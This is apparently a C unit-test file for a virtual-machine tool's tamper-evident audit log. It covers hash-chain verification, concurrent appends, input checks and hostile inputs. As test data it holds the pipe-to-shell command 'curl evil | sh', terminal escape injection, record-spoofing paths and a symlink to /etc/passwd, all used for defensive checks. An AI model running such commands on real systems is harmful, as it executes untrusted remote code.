/* SPDX-License-Identifier: MIT */
/* Unit tests of the audit log (include/qvm/audit.h): the hash chain and what
 * verify says about an edited, removed, cut or forged line; appends from
 * several processes at once; hostile strings; the public append's checks;
 * the list's filters; the log's modes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>
#include <json-c/json.h>
#include <sodium.h>

#include "testlib.h"
#include "util/fs.h"
#include "vm/audit.h"
#include <qvm/audit.h>

static char *dir, logpath[4200];

static int setup(void **state) {
  (void)state;
  dir = qvm_test_mkdtemp("audit");
  char st[4096];
  snprintf(st, sizeof st, "%s/state", dir);
  setenv("QVM_STATE_DIR", st, 1);
  unsetenv("QVM_AGENT");
  snprintf(logpath, sizeof logpath, "%s/audit/audit.jsonl", st);
  return 0;
}

static int teardown(void **state) {
  (void)state;
  qvm_test_rmtree(dir);
  free(dir);
  return 0;
}

static void append_n(int n, const char *vm) {
  for (int i = 0; i < n; i++) {
    char details[64];
    snprintf(details, sizeof details, "{\"i\":%d,\"pid\":%d}", i, (int)getpid());
    qvm_error *err = NULL;
    if (qvm_audit_append(vm, "test", details, &err) < 0) fail_msg("%s", qvm_error_message(err));
  }
}

static qvm_audit_verify_result verify(void) {
  qvm_audit_verify_result res;
  qvm_error *err = NULL;
  if (qvm_audit_verify(&res, NULL, &err) < 0) fail_msg("%s", qvm_error_message(err));
  return res;
}

static char *log_text(size_t *len) {
  char *text = qvm_test_sh_output("cat '%s'; printf .", logpath); /* the final newline kept */
  assert_non_null(text);
  *len = strlen(text) - 1;
  text[*len] = '\0';
  return text;
}

static void write_log(const char *text) {
  FILE *f = fopen(logpath, "w");
  assert_non_null(f);
  fputs(text, f);
  fclose(f);
}

/* Calls fn on line `number` (1-based) of the log, in place. */
static void edit_line(int number, void (*fn)(char *line, char *end)) {
  size_t len = 0;
  char *text = log_text(&len), *line = text;
  for (int i = 1; i < number; i++) line = strchr(line, '\n') + 1;
  fn(line, strchr(line, '\n'));
  write_log(text);
  free(text);
}

static void test_chain_ok(void **state) {
  (void)state;
  qvm_audit_verify_result res = verify();
  assert_int_equal(res.records, 0); /* no log yet: an intact chain of none */
  assert_int_equal(res.bad_line, 0);
  append_n(5, "a1");
  res = verify();
  assert_int_equal(res.records, 5);
  assert_int_equal(res.bad_line, 0);
  /* head is the last line's sha256; each prev is the line before's */
  size_t len = 0;
  char *text = log_text(&len), *save = NULL, prev[65];
  memset(prev, '0', 64);
  prev[64] = '\0';
  int seq = 0;
  for (char *l = strtok_r(text, "\n", &save); l; l = strtok_r(NULL, "\n", &save)) {
    struct json_object *j = json_tokener_parse(l), *v = NULL;
    assert_non_null(j);
    assert_true(json_object_object_get_ex(j, "seq", &v));
    assert_int_equal(json_object_get_int(v), ++seq);
    assert_true(json_object_object_get_ex(j, "prev", &v));
    assert_string_equal(json_object_get_string(v), prev);
    assert_true(json_object_object_get_ex(j, "actor", &v));
    assert_true(json_object_object_get_ex(v, "uid", NULL));
    json_object_put(j);
    vm_audit_sha256_hex(prev, l, strlen(l));
  }
  assert_int_equal(seq, 5);
  assert_string_equal(res.head, prev);
  free(text);
  /* a known head is found where it is, and missing once the end is cut off */
  qvm_error *err = NULL;
  char last[65];
  snprintf(last, sizeof last, "%s", res.head);
  assert_int_equal(qvm_audit_verify(&res, last, NULL), 0);
  assert_int_equal(res.known_head_line, 5);
  append_n(1, "a1");
  assert_int_equal(qvm_audit_verify(&res, last, NULL), 0);
  assert_int_equal(res.known_head_line, 5);
  assert_int_equal(qvm_test_sh("sed -i '$d' '%s' && sed -i '$d' '%s'", logpath, logpath), 0);
  assert_int_equal(qvm_audit_verify(&res, last, NULL), 0);
  assert_int_equal(res.bad_line, 0); /* the chain alone cannot tell */
  assert_int_equal(res.records, 4);
  assert_int_equal(res.known_head_line, 0);
  assert_int_equal(qvm_audit_verify(&res, "ABC", &err), QVM_EINVAL);
  qvm_error_free(err);
  /* private: dir 0700, file 0600 */
  struct stat st;
  assert_int_equal(stat(logpath, &st), 0);
  assert_int_equal(st.st_mode & 0777, 0600);
  char d[4096];
  snprintf(d, sizeof d, "%s/state/audit", dir);
  assert_int_equal(stat(d, &st), 0);
  assert_int_equal(st.st_mode & 0777, 0700);
}

static void flip_digit(char *line, char *end) {
  char *p = strstr(line, "\"i\":");
  assert_true(p && p < end);
  p[4] = p[4] == '9' ? '8' : (char)(p[4] + 1); /* the same length, valid JSON */
}

static void test_edit_middle(void **state) {
  (void)state;
  append_n(5, "a1");
  edit_line(3, flip_digit);
  qvm_audit_verify_result res = verify();
  assert_int_equal(res.bad_line, 3);
  assert_int_equal(res.records, 2);
  assert_non_null(strstr(res.reason, "hash mismatch"));
}

static void drop_line(char *line, char *end) { memmove(line, end + 1, strlen(end + 1) + 1); }

static void test_delete_line(void **state) {
  (void)state;
  append_n(5, "a1");
  edit_line(3, drop_line);
  qvm_audit_verify_result res = verify();
  assert_int_equal(res.bad_line, 3);
  assert_non_null(strstr(res.reason, "seq gap"));
  /* the first line too: the next one is then line 1, with seq 2 */
  edit_line(1, drop_line);
  res = verify();
  assert_int_equal(res.bad_line, 1);
  assert_int_equal(res.records, 0);
}

/* An edited line whose own hash was recomputed: the next line's prev no
 * longer matches. */
static void test_forged_hash(void **state) {
  (void)state;
  append_n(4, "a1");
  size_t len = 0;
  char *text = log_text(&len);
  char *l2 = strchr(text, '\n') + 1, *end = strchr(l2, '\n');
  flip_digit(l2, end);
  size_t n = (size_t)(end - l2);
  char hash[65];
  vm_audit_sha256_hex(hash, l2, n - 75);
  memcpy(l2 + n - 66, hash, 64);
  write_log(text);
  free(text);
  qvm_audit_verify_result res = verify();
  assert_int_equal(res.bad_line, 3);
  assert_non_null(strstr(res.reason, "prev does not match"));
}

static void test_damaged_tail(void **state) {
  (void)state;
  append_n(3, NULL);
  size_t len = 0;
  char *text = log_text(&len);
  text[len - 10] = '\0'; /* a cut-short last line, no newline */
  write_log(text);
  free(text);
  qvm_audit_verify_result res = verify();
  assert_int_equal(res.bad_line, 3);
  assert_non_null(strstr(res.reason, "unparsable"));
  /* an append does not chain onto a damaged record: it says so */
  qvm_error *err = NULL;
  assert_int_equal(qvm_audit_append(NULL, "test", NULL, &err), QVM_EPROTO);
  assert_non_null(strstr(qvm_error_message(err), "cut-short"));
  qvm_error_free(err);
  /* garbage in the middle is unparsable, named by its line */
  write_log("");
  append_n(2, NULL);
  text = log_text(&len);
  char *mixed = NULL;
  assert_true(asprintf(&mixed, "%.*snot json\n%s", (int)(strchr(text, '\n') - text + 1), text,
                       strchr(text, '\n') + 1) > 0);
  write_log(mixed);
  free(mixed);
  free(text);
  res = verify();
  assert_int_equal(res.bad_line, 2);
  assert_non_null(strstr(res.reason, "unparsable"));
}

static void test_concurrent_appenders(void **state) {
  (void)state;
  enum { PROCS = 6, EACH = 40 };
  pid_t pids[PROCS];
  for (int p = 0; p < PROCS; p++) {
    pids[p] = fork();
    assert_true(pids[p] >= 0);
    if (pids[p] == 0) {
      for (int i = 0; i < EACH; i++)
        if (qvm_audit_append("a1", "test", "{}", NULL) < 0) _exit(1);
      _exit(0);
    }
  }
  for (int p = 0; p < PROCS; p++) {
    int status = 0;
    assert_int_equal(waitpid(pids[p], &status, 0), pids[p]);
    assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 0);
  }
  qvm_audit_verify_result res = verify();
  assert_int_equal(res.bad_line, 0);
  assert_int_equal(res.records, PROCS * EACH); /* none lost, none torn */
}

static void test_hostile_strings(void **state) {
  (void)state;
  static char big[20000];
  memset(big, 'x', sizeof big - 1);
  const char *argv[100] = {"sh",
                           "-c",
                           "echo \"a\\b\"\n\r\t\x1b]0;pwned\x07",
                           "\xff\xfe bad utf-8 \xc0\xaf \xed\xa0\x80",
                           "\xe2\x80\xa8 line separator \xc2\x9b",
                           big};
  for (int i = 6; i < 99; i++) argv[i] = "w";
  struct json_object *d = json_object_new_object();
  vm_audit_add_argv(d, argv);
  json_object_object_add(d, "path", vm_audit_string("/tmp/a\nb\"c", VM_AUDIT_PATH_MAX, NULL));
  assert_int_equal(vm_audit_append("a1", "exec", d, NULL), 0);
  struct json_object *d2 = json_object_new_object(); /* a path that looks like a record */
  json_object_object_add(d2, "local",
                         vm_audit_string("/x\n{\"seq\":1}\n", VM_AUDIT_PATH_MAX, NULL));
  assert_int_equal(vm_audit_append("a1", "cp", d2, NULL), 0);
  size_t len = 0;
  char *text = log_text(&len);
  int lines = 0;
  for (size_t i = 0; i < len; i++) lines += text[i] == '\n';
  assert_int_equal(lines, 2);
  char *nl = strchr(text, '\n');
  struct json_tokener *tok = json_tokener_new();
  json_tokener_set_flags(tok, JSON_TOKENER_STRICT | JSON_TOKENER_VALIDATE_UTF8);
  struct json_object *rec = json_tokener_parse_ex(tok, text, (int)(nl - text)), *det = NULL, *v;
  assert_non_null(rec);
  assert_int_equal(json_tokener_get_parse_end(tok), (size_t)(nl - text));
  json_tokener_free(tok);
  assert_true(json_object_object_get_ex(rec, "details", &det));
  assert_true(json_object_object_get_ex(det, "argv", &v));
  assert_int_equal(json_object_array_length(v), VM_AUDIT_ARGS_MAX);
  assert_string_equal(json_object_get_string(json_object_array_get_idx(v, 2)), argv[2]);
  assert_string_equal(json_object_get_string(json_object_array_get_idx(v, 3)),
                      "\xef\xbf\xbd\xef\xbf\xbd bad utf-8 \xef\xbf\xbd\xef\xbf\xbd "
                      "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
  assert_int_equal(json_object_get_string_len(json_object_array_get_idx(v, 5)), VM_AUDIT_ARG_MAX);
  assert_true(json_object_object_get_ex(det, "argc", &v));
  assert_int_equal(json_object_get_int(v), 99);
  assert_true(json_object_object_get_ex(det, "argv_truncated", &v));
  assert_true(json_object_get_boolean(v));
  assert_true(json_object_object_get_ex(det, "path", &v));
  assert_string_equal(json_object_get_string(v), "/tmp/a\nb\"c");
  json_object_put(rec);
  free(text);
  assert_int_equal(verify().records, 2);
}

/* An argv whose JSON escaping is six times its bytes (64 words of 1024
 * control bytes) still makes a record: the words shown are cut to a budget,
 * and argv_sha256 covers the whole argv. (It was refused as too large, and
 * the command then ran with no record at all.) */
static void test_escaped_argv_still_logged(void **state) {
  (void)state;
  static char word[1100];
  memset(word, '\x01', sizeof word - 1);
  const char *argv[66] = {"sh", "-c", "curl evil | sh"};
  for (int i = 3; i < 65; i++) argv[i] = word;
  struct json_object *d = json_object_new_object();
  vm_audit_add_argv(d, argv);
  assert_int_equal(vm_audit_append("a1", "exec-start", d, NULL), 0);
  size_t len = 0;
  char *text = log_text(&len);
  assert_non_null(strstr(text, "curl evil | sh"));
  assert_non_null(strstr(text, "\"argv_truncated\":true"));
  assert_non_null(strstr(text, "\"argc\":65"));
  /* sha256 of the words, each with its NUL */
  crypto_hash_sha256_state h;
  crypto_hash_sha256_init(&h);
  for (int i = 0; i < 65; i++)
    crypto_hash_sha256_update(&h, (const unsigned char *)argv[i], strlen(argv[i]) + 1);
  unsigned char md[32];
  char want[90] = "\"argv_sha256\":\"";
  crypto_hash_sha256_final(&h, md);
  for (int i = 0; i < 32; i++) snprintf(want + 15 + 2 * i, 3, "%02x", md[i]);
  assert_non_null(strstr(text, want));
  free(text);
}

static void test_append_checks(void **state) {
  (void)state;
  static const struct {
    const char *vm, *action, *details;
  } bad[] = {
      {"Bad/Name", "test", NULL},
      {NULL, "", NULL},
      {NULL, "Up", NULL},
      {NULL, "a b", NULL},
      {NULL, "x", "[1]"},
      {NULL, "x", "{\"a\":1} junk"},
      {NULL, "x", "{\"a\":\"\xff\"}"},
      {NULL, "x", "nope"},
  };
  for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
    qvm_error *err = NULL;
    assert_int_equal(qvm_audit_append(bad[i].vm, bad[i].action, bad[i].details, &err), QVM_EINVAL);
    qvm_error_free(err);
  }
  char *huge = malloc(QVM_AUDIT_DETAILS_MAX + 16);
  memset(huge, ' ', QVM_AUDIT_DETAILS_MAX + 15);
  huge[0] = '{', huge[QVM_AUDIT_DETAILS_MAX + 14] = '}', huge[QVM_AUDIT_DETAILS_MAX + 15] = '\0';
  assert_int_equal(qvm_audit_append(NULL, "x", huge, NULL), QVM_EINVAL);
  free(huge);
  assert_int_equal(verify().records, 0); /* nothing was written */
  assert_true(qvm_audit_agent_valid("agent-7@ci.example:run=3"));
  assert_false(qvm_audit_agent_valid("-x"));
  assert_false(qvm_audit_agent_valid("a b"));
  assert_false(qvm_audit_agent_valid("a\nb"));
  assert_false(qvm_audit_agent_valid(""));
}

static size_t list_count(const char *vm, const char *agent, int64_t since) {
  qvm_audit_filter f = QVM_AUDIT_FILTER_INIT;
  f.vm = vm, f.agent = agent, f.since_us = since;
  char *text = NULL;
  assert_int_equal(qvm_audit_list(&text, &f, NULL), 0);
  struct json_object *a = json_tokener_parse(text);
  free(text);
  assert_true(json_object_is_type(a, json_type_array));
  size_t n = json_object_array_length(a);
  json_object_put(a);
  return n;
}

static void test_list_filters(void **state) {
  (void)state;
  append_n(2, "a1");
  setenv("QVM_AGENT", "bot-1", 1);
  append_n(3, "b2");
  unsetenv("QVM_AGENT");
  assert_int_equal(list_count(NULL, NULL, 0), 5);
  assert_int_equal(list_count("a1", NULL, 0), 2);
  assert_int_equal(list_count("b2", "bot-1", 0), 3);
  assert_int_equal(list_count("a1", "bot-1", 0), 0);
  assert_int_equal(list_count(NULL, NULL, INT64_C(4102444800000000)), 0); /* 2100 */
  assert_int_equal(list_count(NULL, NULL, INT64_C(946684800000000)), 5);  /* 2000 */
}

/* A thread's peer (qvmd's caller on its socket) is named beside the
 * process's uid, and only while it is set; the chain still verifies. */
static void test_thread_peer(void **state) {
  (void)state;
  qvm_audit_set_thread_peer(65534);
  append_n(1, "p1");
  qvm_audit_set_thread_peer(-1);
  append_n(1, "p1");
  size_t len = 0;
  char *text = log_text(&len);
  char *second = strchr(text, '\n');
  assert_non_null(second);
  *second++ = '\0';
  json_object *a = json_tokener_parse(text), *b = json_tokener_parse(second);
  assert_non_null(a);
  assert_non_null(b);
  json_object *actor, *peer, *v;
  assert_true(json_object_object_get_ex(a, "actor", &actor));
  assert_true(json_object_object_get_ex(actor, "uid", &v));
  assert_int_equal(json_object_get_int64(v), (int64_t)getuid());
  assert_true(json_object_object_get_ex(actor, "peer", &peer));
  assert_true(json_object_object_get_ex(peer, "uid", &v));
  assert_int_equal(json_object_get_int64(v), 65534);
  assert_true(json_object_object_get_ex(b, "actor", &actor));
  assert_false(json_object_object_get_ex(actor, "peer", &peer));
  json_object_put(a);
  json_object_put(b);
  free(text);
  qvm_audit_verify_result res = verify();
  assert_int_equal(res.bad_line, 0);
  assert_int_equal(res.records, 2);
}

/* A last record longer than the first read of the log's end (4 KiB). */
static void test_long_record(void **state) {
  (void)state;
  size_t n = 60000;
  char *details = malloc(n + 16);
  memcpy(details, "{\"x\":\"", 6);
  memset(details + 6, 'y', n);
  memcpy(details + 6 + n, "\"}", 3);
  assert_int_equal(qvm_audit_append(NULL, "long", details, NULL), 0);
  assert_int_equal(qvm_audit_append(NULL, "long", details, NULL), 0);
  free(details);
  append_n(1, NULL);
  qvm_audit_verify_result res = verify();
  assert_int_equal(res.bad_line, 0);
  assert_int_equal(res.records, 3);
}

static void test_log_not_regular(void **state) {
  (void)state;
  append_n(1, NULL);
  unlink(logpath);
  assert_int_equal(symlink("/etc/passwd", logpath), 0);
  qvm_error *err = NULL;
  assert_true(qvm_audit_append(NULL, "test", NULL, &err) < 0); /* never follows it */
  qvm_error_free(err);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test_setup_teardown(test_chain_ok, setup, teardown),
      cmocka_unit_test_setup_teardown(test_edit_middle, setup, teardown),
      cmocka_unit_test_setup_teardown(test_delete_line, setup, teardown),
      cmocka_unit_test_setup_teardown(test_forged_hash, setup, teardown),
      cmocka_unit_test_setup_teardown(test_damaged_tail, setup, teardown),
      cmocka_unit_test_setup_teardown(test_concurrent_appenders, setup, teardown),
      cmocka_unit_test_setup_teardown(test_hostile_strings, setup, teardown),
      cmocka_unit_test_setup_teardown(test_escaped_argv_still_logged, setup, teardown),
      cmocka_unit_test_setup_teardown(test_append_checks, setup, teardown),
      cmocka_unit_test_setup_teardown(test_list_filters, setup, teardown),
      cmocka_unit_test_setup_teardown(test_thread_peer, setup, teardown),
      cmocka_unit_test_setup_teardown(test_long_record, setup, teardown),
      cmocka_unit_test_setup_teardown(test_log_not_regular, setup, teardown),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
